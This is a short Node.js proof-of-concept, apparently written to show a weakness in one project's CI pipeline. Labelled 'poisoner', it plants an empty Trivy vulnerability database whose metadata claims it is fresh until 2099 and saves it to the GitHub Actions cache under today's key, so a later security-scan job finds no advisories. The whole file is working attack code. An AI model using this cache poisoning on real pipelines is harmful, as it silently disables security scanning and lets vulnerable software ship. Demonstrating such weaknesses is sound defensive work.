// What a compromised build or test dependency can do in deploy.yml's gate job: it runs in
// build-gate's process tree with the job's cache token (ACTIONS_RUNTIME_TOKEN, ACTIONS_CACHE_URL)
// and saves TODAY's Trivy DB cache entry, the key security-scan restores first, holding a DB
// whose metadata says it is fresh until 2099 (a real Trivy then never downloads another).
// It also leaves that DB in ~/.cache/trivy, for a later job on a reused runner.
// OPS_CACHE_LIB: @actions/cache (an attacker brings its own copy).
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'

const cache = await import(process.env.OPS_CACHE_LIB)
const dir = join(process.env.HOME, '.cache', 'trivy', 'db')
mkdirSync(dir, { recursive: true })
writeFileSync(join(dir, 'trivy.db'), 'a DB without advisories')
const now = new Date().toISOString()
writeFileSync(
  join(dir, 'metadata.json'),
  JSON.stringify({
    Version: 2,
    NextUpdate: '2099-01-01T00:00:00Z',
    UpdatedAt: now,
    DownloadedAt: now
  })
)
const key = `trivy-db-${process.platform}-${now.slice(0, 10)}`
console.log(`poisoner: saved ${key}: ${await cache.saveCache([dir], key)}`)
